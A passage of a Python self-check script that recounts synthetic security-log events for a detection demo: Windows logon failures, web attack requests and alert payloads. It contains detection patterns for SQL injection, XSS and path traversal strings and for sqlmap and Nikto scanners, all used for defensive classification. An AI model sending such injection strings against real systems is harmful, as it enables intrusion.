def check_windows(path: Path, story: dict, check: Check) -> None:
    rows = read_json_lines(path, check)
    win = story["windows_auth_failure"]
    failures = [r for r in rows if "EventCode=4625" in r["_raw"]
                and f"Source Network Address:\t{WIN_ATTACKER}" in r["_raw"]]
    check.equal("4625 from attacker", len(failures), win["failure_count"])
    check.equal("4625 field agrees", sum(r["EventCode"] == "4625" for r in failures),
                win["failure_count"])
    check.equal("accounts tried on hildegard", sorted({r["Account_Name"] for r in failures}),
                win["accounts"])
    sub_statuses = {}
    for row in failures:
        code = row["_raw"].split("Sub Status:\t\t", 1)[1].split("\n", 1)[0]
        sub_statuses[code] = sub_statuses.get(code, 0) + 1
    check.equal("4625 by sub status", dict(sorted(sub_statuses.items())),
                win["failures_by_sub_status"])
    per_account = {}
    for row in failures:
        per_account[row["Account_Name"]] = per_account.get(row["Account_Name"], 0) + 1
    check.equal("4625 by account", dict(sorted(per_account.items())), win["failures_by_account"])
    successes = [r for r in rows if r["EventCode"] == "4624"
                 and r["Source_Network_Address"] == WIN_ATTACKER]
    check.equal("4624 from attacker", len(successes), 0)


def web_pattern(row: dict) -> str:
    query = urllib.parse.unquote_plus(row["uri_query"]).lower()
    if re.search(r"union(\s+all)?\s+select", query) or "' or '1'='1" in query:
        return "sqli"
    if "<script>" in query:
        return "xss"
    if "../" in query:
        return "traversal"
    return "probe"


def check_web(path: Path, story: dict, check: Check) -> None:
    rows = read_json_lines(path, check)
    web = story["web_attack"]
    attack = [r for r in rows if r["src_ip"] == WEB_ATTACKER]
    check.equal("web attack requests", len(attack), web["request_count"])
    patterns = {}
    for row in attack:
        patterns[web_pattern(row)] = patterns.get(web_pattern(row), 0) + 1
    check.equal("web attack patterns", dict(sorted(patterns.items())), web["requests_by_pattern"])
    statuses = {}
    for row in attack:
        statuses[row["status"]] = statuses.get(row["status"], 0) + 1
    check.equal("web attack statuses", dict(sorted(statuses.items())), web["requests_by_status"])
    scanners = [r for r in rows if "sqlmap" in r["http_user_agent"]
                or "Nikto" in r["http_user_agent"]]
    check.equal("scanner requests from other addresses",
                [r["src_ip"] for r in scanners if r["src_ip"] != WEB_ATTACKER], [])


def check_alerts(root: Path, story: dict, check: Check) -> None:
    expected = {
        "ssh_brute_force": story["ssh_brute_force"]["failed_password_count"],
        "suspicious_outbound": story["c2"]["port_4444_connection_count"],
        "cryptomining": story["cryptomining"]["miner_query_count"],
        "windows_auth_failure": story["windows_auth_failure"]["failure_count"],
        "web_attack": story["web_attack"]["request_count"],
    }
    for key, count in expected.items():
        payload = json.loads((root / "demo" / "alerts" / f"{key}.json").read_text())
        check.equal(f"{key} payload keys", sorted(payload),
                    ["app", "owner", "result", "results_link", "search_name", "sid"])
        check.equal(f"{key} count", payload["result"]["count"], str(count))
        for name, value in payload["result"].items():
            if not (isinstance(value, str) or (isinstance(value, list)
                                               and all(isinstance(v, str) for v in value))):
                check.failures.append(f"{key}: result.{name} is not a string or string array")


def self_check(root: Path, story: dict) -> list[str]:
    """Re-reads the written files and recounts them without the generator's records."""
    check = Check()
    evidence = root / "demo" / "evidence"
    check_secure(evidence / "gacrux" / "secure.log", story, check)
    check_processes(evidence / "gacrux" / "process.json", story, check)
    check_tcp(evidence / "network" / "stream_tcp.json", story, check)
    check_dns(evidence / "network" / "stream_dns.json", story, check)
    check_windows(evidence / "windows" / "hildegard_security.json", story, check)
    check_web(evidence / "network" / "stream_http.json", story, check)
    check_alerts(root, story, check)
    for path in sorted((root / "demo").rglob("*.json")):
        read_json_lines(path, check)
    return check.failures


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--root", type=Path, default=Path(__file__).resolve().parent.parent,
                        help="repository root to write demo/ under (default: this checkout)")
    args = parser.parse_args()
    story = generate(args.root)
    failures = self_check(args.root, story)
    if failures:
        for failure in failures:
            print(f"self-check failed: {failure}", file=sys.stderr)
        return 1
    counts = story["event_counts"]
    print(f"wrote {counts['total']} events to {args.root / 'demo' / 'evidence'}; self-check passed")
    return 0


if __name__ == "__main__":
    sys.exit(main())
